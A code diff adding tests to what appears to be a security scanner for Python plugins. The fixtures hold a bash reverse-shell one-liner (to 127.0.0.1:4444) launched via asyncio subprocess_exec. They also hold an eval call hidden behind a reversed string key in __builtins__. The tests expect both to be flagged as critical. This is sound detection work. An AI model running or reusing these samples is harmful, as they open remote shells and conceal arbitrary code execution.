@@ -311,3 +311,20 @@ def test_an_f_string_over_a_constant_table_of_own_modules_is_dispatch() -> None:
     assert [f.severity for f in _hits({**files, "plug/__init__.py": foreign}, "dynamic-import")] == [H]
     other = FORMATS.replace('"plug.formats.', '"elsewhere.')
     assert [f.severity for f in _hits({**files, "plug/__init__.py": other}, "dynamic-import")] == [M]
+
+
+def test_event_loop_subprocess_methods_are_process_calls() -> None:
+    src = 'import asyncio\nasync def f():\n    loop = asyncio.get_running_loop()\n    await loop.subprocess_exec(asyncio.SubprocessProtocol, "/bin/sh", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")\n'
+    assert [(f.severity, f.line) for f in _hits({"plug/__init__.py": src}, "reverse-shell")] == [(C, 4)]
+    twin = 'import asyncio\nasync def f(p):\n    loop = asyncio.get_running_loop()\n    await loop.subprocess_exec(asyncio.SubprocessProtocol, "ffprobe", p)\n'
+    hits = _hits({"plug/__init__.py": twin}, "process-spawn", {"subprocess": ["ffprobe"]})
+    assert [(f.severity, f.line, f.declared) for f in hits] == [(M, 4, True)]
+
+
+def test_builtins_dict_with_a_reversed_key_reaches_eval() -> None:
+    src = 'def f(u):\n    return __builtins__.__dict__["lave"[::-1]](u)\n'
+    hits = _hits({"plug/__init__.py": src}, "obfuscated-call")
+    assert hits and {f.severity for f in hits} == {C} and {f.line for f in hits} == {2}
+    twin = 'def f(u):\n    return __builtins__.__dict__["len"](u)\n'
+    report = scan({"plug/__init__.py": twin})
+    assert _hits({"plug/__init__.py": twin}, "obfuscated-call") == [] and report.verdict.value == "safe"
